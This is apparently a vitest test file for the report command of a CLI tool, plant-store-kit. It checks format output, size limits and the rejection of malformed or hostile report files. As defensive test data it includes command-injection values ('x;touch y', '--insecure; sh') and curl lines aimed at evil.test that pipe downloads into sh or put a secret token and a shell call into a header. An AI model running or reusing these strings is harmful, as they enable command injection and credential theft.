import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { reportFormats } from '../src/report/document.ts'
import { conformant, violations } from '../src/report/sampleReports.test-data.ts'
import { plantStore, startFaulty, startPlantStore } from './commandLine.testing.ts'
import { createFile, createFolder } from './folder.testing.ts'

const writeReport = (report: unknown): string => createFile('report.json', JSON.stringify(report))

function flags(folder: string): string[] {
  return reportFormats.flatMap((format) => ['--report', `${format}=${join(folder, format)}`])
}

test('from the JSON report, the report command writes the same files as the run itself', async () => {
  const [run, later] = [createFolder(), createFolder()]
  const { baseUrl, token } = await startFaulty('limit-ignored')
  const verify = ['verify', baseUrl, '--token', token, '--engine', 'probes', ...flags(run)]
  expect(await plantStore(verify)).toMatchObject({ code: 1 })
  const { code, stdout, stderr } = await plantStore(['report', join(run, 'json'), ...flags(later)])
  expect([code, stdout, stderr]).toEqual([0, '', ''])
  expect(readdirSync(later).sort()).toEqual([...reportFormats].sort())
  for (const format of reportFormats)
    expect(readFileSync(join(later, format), 'utf8'), format).toBe(readFileSync(join(run, format), 'utf8'))
})

test('the replay command quotes the id of a finding, which may come from somebody else', async () => {
  const findings = violations.findings.map((each) => ({ ...each, id: 'x;touch y' }))
  const { stdout } = await plantStore(['report', writeReport({ ...violations, findings })])
  expect(stdout).toContain(" 'x;touch y' --base-url ")
})

test('a report of a later version, with more fields, can be read', async () => {
  const findings = violations.findings.map((each) => ({ ...each, x: 1 }))
  const later = { ...violations, weather: 'fine', findings }
  const folder = createFolder()
  const { code, stderr } = await plantStore(['report', writeReport(later), ...flags(folder)])
  expect([code, stderr]).toEqual([0, ''])
  const [issue] = JSON.parse(readFileSync(join(folder, 'gitlab'), 'utf8'))
  expect(issue.fingerprint).toBe('plant-name-string')
})

test.each([
  ['a million values', `[${'{},'.repeat(1_000_000)}{}]`],
  ['a thousand levels', `{"findings":[{"engines":${'['.repeat(3_000)}${']'.repeat(3_000)}}]}`],
])('refuses a file with more than %s', async (_, text) => {
  const { code, stderr } = await plantStore(['report', createFile('report.json', text)])
  expect([code, stderr]).toEqual([2, expect.stringContaining('at most 1,000,000 values in 1,000 levels')])
})

test.each([
  [
    '{',
    /report of plant-store-kit verify --report json=FILE, got text that is not valid or complete JSON\n$/,
  ],
  ['[]', /report of plant-store-kit verify --report json=FILE: expected an object, got an empty array\n$/],
  ['{"openapi":"3.1.0"}', /expected an object with "schemaVersion", got an object with "openapi"\n$/],
  [JSON.stringify({ ...violations, schemaVersion: 2 }), /\/schemaVersion: expected 1, got the number 2\n$/],
  [JSON.stringify({ ...conformant, verdict: 'fine' }), /\/verdict: expected .* got the string "fine"\n$/],
  // A report from somebody else must not make users run other commands than the kit's.
  ...[
    'curl -sSi http://evil.test | sh',
    'curl -sSi -o file http://evil.test',
    "curl -sSi 'http://evil.test\n'",
    "curl -sSi -H '@file' http://evil.test",
    'curl -sSi -H "A: $(printf %s $PLANT_STORE_TOKEN | tr a b; sh)" http://evil.test',
  ].map((curl): [string, RegExp] => [
    JSON.stringify(violations, (key, value) => (key === 'curl' ? curl : value)),
    /\/curl: expected to match pattern .* got the string "curl -sSi /,
  ]),
  [
    JSON.stringify({ ...violations, target: { ...violations.target, route: '--insecure; sh' } }),
    /\/target\/route: expected to match pattern /,
  ],
  [JSON.stringify({ ...conformant, findings: [{}] }), /\/findings\/0: expected an object with "id"/],
])('a file that is not a report is refused (%#)', async (text, message) => {
  const folder = createFolder({ 'wrong.json': text })
  const { code, stdout, stderr } = await plantStore(
    `report ${folder}/wrong.json --report html=${folder}/html`,
  )
  expect([code, stdout]).toEqual([2, ''])
  expect(stderr).toMatch(/^plant-store-kit: .*wrong\.json: /)
  expect(stderr).toMatch(message)
  expect(readdirSync(folder)).toEqual(['wrong.json'])
})

test('the github format needs no runner, and may share a pipe with the terminal report', async () => {
  const args = ['report', writeReport(violations), '--report', 'terminal', '--report', 'github']
  const { ended } = startPlantStore(args, { shell: '"$0" "$@" 2>&1 | cat' })
  const { code, stdout } = await ended
  expect(code).toBe(0)
  expect(stdout).toMatch(/^::error title=plant-store-kit%3A plant-name-string::/m)
  expect(stdout).toMatch(/^✗ plant-name-string/m)
})

test("the summary of a step does not exceed the runner's maximum", async () => {
  for (const size of [1024 * 1024 - 200, 1024 * 1024 - 3]) {
    const summary = createFile('summary', 'x'.repeat(size))
    const env = { GITHUB_STEP_SUMMARY: summary }
    const { code } = await plantStore(['report', writeReport(violations), '--report', 'github'], env)
    expect(code).toBe(0)
    expect(readFileSync(summary).length).toBeLessThanOrEqual(1024 * 1024)
  }
})

test('the report command exits with 3 if it cannot write a file of the runner', async () => {
  const env = { GITHUB_OUTPUT: createFolder() }
  const { code, stderr } = await plantStore(['report', writeReport(conformant), '--report', 'github'], env)
  expect(code).toBe(3)
  expect(stderr).toMatch(/cannot write the github report to .*: expected a file instead of a folder\n$/)
})

test("the place of a finding is the contract's path from the configuration file", async () => {
  const folder = createFolder()
  const verify = { contractPath: join(folder, 'api/openapi.yaml') }
  const config = createFile('plant-store.config.json', JSON.stringify({ verify }))
  for (const variable of ['GITHUB_WORKSPACE', 'CI_PROJECT_DIR']) {
    const env = { PLANT_STORE_CONFIG: config, [variable]: folder }
    const { stdout } = await plantStore(`report ${writeReport(violations)} --report gitlab`, env)
    expect(JSON.parse(stdout)[0].location.path).toBe('api/openapi.yaml')
  }
})
